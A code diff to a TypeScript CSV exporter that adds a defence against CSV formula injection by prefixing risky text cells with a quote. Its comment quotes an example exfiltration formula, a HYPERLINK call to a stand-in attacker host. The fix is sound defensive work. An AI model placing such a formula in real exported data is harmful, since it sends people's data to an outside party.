@@ -66,11 +66,21 @@ const TABLES: Record<string, (data: SiteData) => Record<string, string | number 
     d["editorial-notes"].map((n: EditorialNote) => ({ id: n.id, paper: n.paper, paragraph: n.paragraph, claim: n.claim, text: n.text, sources: sourceUrls(n.sources) })),
 };
 
+/**
+ * A text cell that a spreadsheet would run as a formula (=HYPERLINK("http://evil.example/?"&A1)
+ * in a name sends the row away when clicked) is prefixed with ', as OWASP advises for CSV
+ * injection: the program then shows the text as written. Only text reaches this (csv-stringify's
+ * cast.string); a number such as -3.5 is data and stays a number.
+ */
+function defuseFormula(cell: string): string {
+  return /^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell;
+}
+
 /** CSV with a byte-order mark, so spreadsheet programs read the Chinese as UTF-8. */
 export function toCsv(name: string, data: SiteData): string {
   const rows = TABLES[name]?.(data);
   if (!rows) throw new Error(`no CSV view for data set "${name}"`);
-  return `\uFEFF${stringify(rows, { header: true, columns: Object.keys(rows[0] ?? {}), cast: { number: String } })}`;
+  return `\uFEFF${stringify(rows, { header: true, columns: Object.keys(rows[0] ?? {}), cast: { number: String, string: defuseFormula } })}`;
 }
 
 export const CSV_SETS = Object.keys(TABLES);
